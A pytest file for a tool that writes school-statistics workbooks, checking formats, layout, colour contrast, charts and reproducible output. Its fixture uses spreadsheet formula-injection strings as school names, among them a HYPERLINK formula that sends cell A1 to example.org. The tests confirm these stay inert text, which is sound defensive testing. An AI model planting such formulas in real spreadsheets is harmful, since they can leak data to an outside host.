"""A written workbook: what stands in its cells, that nothing in it runs, that the same rows give the same bytes, and
that its colours can be read.
"""

import re
import shutil
import subprocess
import zipfile
from datetime import date
from itertools import pairwise
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines.publication.views.handling import HANDLING_NOTES, Audience
from pipelines.publication.views.reading import Marts
from pipelines.publication.workbooks import look
from pipelines.publication.workbooks.sheets import About, Book, Chart, Charts, Column, Line, Sheet
from pipelines.publication.workbooks.sql import open_marts
from pipelines.publication.workbooks.writer import NO_ROWS, SAMPLE, write_book

HANDLING = HANDLING_NOTES[Audience.INTERNAL]
PLANTED = '=HYPERLINK("http://example.org/?"&A1,"Click")'
NAMES = [PLANTED, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "http://example.org", "{=1+1}", "12", "A & B <School>"]
RATINGS = list(look.RATING_LOOKS)

ROWS = Sheet(
    "Schools",
    "Every school",
    "One line for each.",
    ("schools",),
    "select *, case when value is null then words(status) end as value_absent, 'pct1' as value_format"
    " from schools order by place",
    (
        Column("school_name", "School", "long", 30),
        Column("value", "Value", "by_row", 10),
        Column("seen_on", "Seen", "date", 12, empty="never"),
        Column("rating", "Rating", "rating", 14),
        Column("decided", "Decision", "entry", 14, choices=("dark green", "red"), message="the colour decided"),
        Column("place", "Trend", "line", 14),
        Column("first", "First year", "helper"),
        Column("second", "Second year", "helper"),
    ),
    ("A note on the basis.",),
)  # fmt: skip
EMPTY = Sheet(
    "None", "None here", "Nothing of this kind.", ("schools",), "select * from schools where false", ROWS.columns
)
DATA = Sheet(
    "Chart data", "Chart data", "What is drawn.", ("schools",), "select * from schools order by place",
    (Column("school_name", "Of"), Column("first", "2023/24", "pct0"), Column("second", "2024/25", "pct0")),
    is_plain=True,
)  # fmt: skip
CHART = Chart("A trend", "Line chart. From 1 to 2.", (Line("The county", 0), Line("England", 1, True)), "pct0", 1, 2)
ABOUT = About(
    "b.xlsx", "A book", "What it is for.", "Testshire", 2025, "1 May 2026", date(2026, 5, 1), "1.0", "abc", True
)
BOOK = Book(ABOUT, (ROWS, EMPTY, DATA), (Charts("Trends", "Trends", "Lines.", DATA, (CHART,)),), ("Registers",))


@pytest.fixture
def marts(tmp_path: Path) -> Marts:
    count = len(NAMES)
    schools = {
        "place": list(range(count)),
        "school_name": NAMES,
        "value": [61.25, None, 0.0, *[50.0] * (count - 3)],
        "value_doubt": [None, None, "printed as 0 with its count left blank", *[None] * (count - 3)],
        "status": ["reported", "suppressed", *["reported"] * (count - 2)],
        "seen_on": [date(2024, 2, 29), None, *[date(2025, 1, 1)] * (count - 2)],
        "rating": [RATINGS[number % len(RATINGS)] for number in range(count)],
        "decided": pa.nulls(count, pa.string()),
        "first": [1.0] * count,
        "second": [None, *[2.0] * (count - 1)],
    }
    folder = tmp_path / "build"
    folder.mkdir()
    pq.write_table(pa.table(schools), folder / "schools.parquet")
    return open_marts(folder, "998")


@pytest.fixture
def written(marts: Marts, tmp_path: Path) -> Path:
    path = tmp_path / "b.xlsx"
    write_book(BOOK, marts, {"schools": {"value": "The value."}}, path)
    return path


def header_of(sheet: Any, heading: str) -> int:
    return next(cell.row for (cell,) in sheet.iter_rows(max_col=1) if cell.value == heading)


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as book:
        return {name: book.read(name).decode("utf-8") for name in book.namelist()}


def test_cells_are_what_the_rows_hold(written: Path) -> None:
    sheet = openpyxl.load_workbook(written)["Schools"]
    header = header_of(sheet, "School")
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=header + 1, max_row=header + len(NAMES))]
    assert [row[0] for row in rows] == NAMES
    assert [row[1] for row in rows] == [61.25, "suppressed", 0, *[50] * (len(NAMES) - 3)]
    assert sheet.cell(header + 1, 2).number_format == '0.0"%"'
    assert [row[2].date() if row[2] != "never" else row[2] for row in rows[:3]] == [
        date(2024, 2, 29),
        "never",
        date(2025, 1, 1),
    ]
    assert [row[4] for row in rows] == [None] * len(NAMES)  # for people to fill in
    assert sheet.max_row == header + len(NAMES)


def test_a_doubted_number_stays_a_number_and_shows_its_mark(written: Path) -> None:
    sheet = openpyxl.load_workbook(written)["Schools"]
    header = header_of(sheet, "School")
    doubted = sheet.cell(header + 3, 2)
    assert (doubted.value, doubted.number_format) == (0, '0.0"%"" †"')
    assert [sheet.cell(header + at, 2).number_format for at in (1, 4)] == ['0.0"%"'] * 2


def test_a_mark_stands_behind_a_number_of_either_sign() -> None:
    marked = look._properties("points1", is_absent=False, is_risky=False, is_doubted=True)["num_format"]
    assert marked == '+0.0" †";-0.0" †";0.0" †"'


def test_nothing_in_a_book_runs(written: Path) -> None:
    """Text that looks like a formula or a link is text, and stays text when the cell is typed again."""
    found = parts(written)
    sheets = {name: text for name, text in found.items() if name.startswith("xl/worksheets/sheet")}
    assert not [name for name, text in sheets.items() if re.search(r"<f[ >]", text)]
    assert not [name for name, text in found.items() if "External" in text or "<externalReference" in text]
    sheet = openpyxl.load_workbook(written)["Schools"]
    header = header_of(sheet, "School")
    for offset, name in enumerate(NAMES, start=1):
        cell = sheet.cell(header + offset, 1)
        assert cell.data_type == "s" and cell.hyperlink is None
        assert bool(cell.quotePrefix) == name.startswith(("=", "+", "-", "@", "\t"))


def test_the_same_rows_give_the_same_bytes_and_no_name(marts: Marts, tmp_path: Path, written: Path) -> None:
    again = tmp_path / "again.xlsx"
    write_book(BOOK, marts, {"schools": {"value": "The value."}}, again)
    assert again.read_bytes() == written.read_bytes()
    about = parts(written)["docProps/core.xml"]
    assert "<dc:creator></dc:creator>" in about or "<dc:creator/>" in about
    assert "2026-05-01T00:00:00Z" in about and "<dc:title>A book</dc:title>" in about


def test_every_sheet_says_how_it_is_to_be_handled_and_prints_on_a4(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    assert book.sheetnames == [
        "Contents",
        "How to read this",
        "Trends",
        "Schools",
        "None",
        "Chart data",
        "What columns hold",
    ]
    for sheet in book:
        texts = [cell.value for row in sheet.iter_rows(max_row=12, max_col=1) for cell in row]
        assert HANDLING in texts and SAMPLE in texts, sheet.title
        assert HANDLING in sheet.oddFooter.left.text and SAMPLE in sheet.oddHeader.center.text
        assert "&P" in sheet.oddFooter.right.text.replace("&[Page]", "&P")
        assert (sheet.page_setup.orientation, str(sheet.page_setup.paperSize)) == ("landscape", "9")
        assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0
    linked = {cell.hyperlink.location for row in book["Contents"].iter_rows() for cell in row if cell.hyperlink}
    assert linked == {f"'{name}'!A1" for name in book.sheetnames if name != "Contents"}
    assert "Registers" in {cell.value for row in book["Contents"].iter_rows() for cell in row}


def test_a_table_is_a_table(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    sheet = book["Schools"]
    header = header_of(sheet, "School")
    (table,) = sheet.tables.values()
    assert table.name == "schools" and table.ref == f"A{header}:H{header + len(NAMES)}" and table.autoFilter
    assert table.tableStyleInfo.showRowStripes
    assert sheet.freeze_panes == f"C{header + 1}"
    assert sheet.print_title_rows == f"${header}:${header}"
    assert [sheet.column_dimensions[letter].hidden for letter in "FG"] == [False, True]
    (validation,) = sheet.data_validations.dataValidation
    assert validation.formula1 == '"dark green,red"' and validation.prompt == "the colour decided"
    assert not book["Chart data"].tables  # sorting it would change the charts
    assert NO_ROWS in {cell.value for row in book["None"].iter_rows() for cell in row}


def test_every_rating_is_coloured_by_its_word(written: Path) -> None:
    sheet = openpyxl.load_workbook(written)["Schools"]
    header = header_of(sheet, "School")
    coloured = {
        rule.formula[0]: rule.dxf.fill.bgColor.rgb
        for given in sheet.conditional_formatting
        if str(given.sqref).startswith(f"D{header + 1}")
        for rule in given.rules
    }
    for word, (_, ground) in look.RATING_LOOKS.items():
        assert coloured[f'"{word}"'].endswith(ground.removeprefix("#"))


def test_charts_have_text_for_who_cannot_see_them_and_lines_are_drawn_over_gaps(written: Path) -> None:
    found = parts(written)
    assert CHART.alt in found["xl/drawings/drawing1.xml"]
    chart = found["xl/charts/chart1.xml"]
    data = openpyxl.load_workbook(written)["Chart data"]
    row = header_of(data, "Of") + 1
    assert f"'Chart data'!$B${row}:$C${row}" in chart
    assert data.cell(row, 2).value == 1 and data.cell(row, 3).value is None  # a gap, no word and no zero
    assert 'dispBlanksAs val="zero"' not in chart and 'dispBlanksAs val="span"' not in chart


def luminance(colour: str) -> float:
    parts = [int(colour[number : number + 2], 16) / 255 for number in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def test_colours_can_be_read() -> None:
    pairs = {pair for words in look.VOCABULARIES.values() for pair in words.values()}
    pairs |= {(ink, ground) for ink in (look.INK, look.MUTED) for ground in ("#FFFFFF", look.ENTRY_GROUND)}
    assert min(contrast(*pair) for pair in pairs) >= 4.5
    assert contrast(look.COUNTY_LINE, "#FFFFFF") >= 3 and contrast(look.REFERENCE_LINE, "#FFFFFF") >= 3
    shades = sorted(luminance(ground) for _, ground in look.RATING_LOOKS.values())
    assert all(low < high for low, high in pairwise(shades))  # no two print the same


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("pct0", '0"%"'),
        ("pct1", '0.0"%"'),
        ("score2", "0.00"),
        ("rate2", "0.00"),
        ("points1", "+0.0;-0.0;0.0"),
        ("count", "#,##0"),
        ("count1", "#,##0.0"),
        ("gbp0", "£#,##0;-£#,##0"),
        ("text", None),
    ],
)
def test_number_formats(kind: str, expected: str | None) -> None:
    assert look.number_format(kind) == expected


def test_libreoffice_opens_it(written: Path, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed: whether it opens the books is not tested here.")
    where = f"-env:UserInstallation={(tmp_path / 'office').as_uri()}"
    done = subprocess.run(
        [office, where, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(written)],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "b.pdf").read_bytes().startswith(b"%PDF")


def test_what_may_be_shown_is_asked_of_one_rule(marts: Marts) -> None:
    (found,) = marts.query(
        "select shown('final', 5, null) as few, shown('final', 6, null) as enough,"
        " shown('final', null, null) as unknown,"
        " shown('local_unvalidated', null, null) as own_unknown, shown('local_unvalidated', 30, 3) as own_few_counted,"
        " absence('reported', 'final', 5, null) as words_for_few,"
        " absence('suppressed', null, null, null) as suppressed,"
        " absence(null, null, null, null) as nothing, absence('reported', 'final', 6, null) as none,"
        " words('la_tables') as basis, words('sen_support') as pupils, in_words('below') as verdict"
    )
    assert found == {
        "few": False,
        "enough": True,
        "unknown": True,
        "own_unknown": False,
        "own_few_counted": False,
        "words_for_few": "too few to show",
        "suppressed": "suppressed",
        "nothing": "none held",
        "none": None,
        "basis": "LA tables",
        "pupils": "SEN support",
        "verdict": "worse than England",
    }
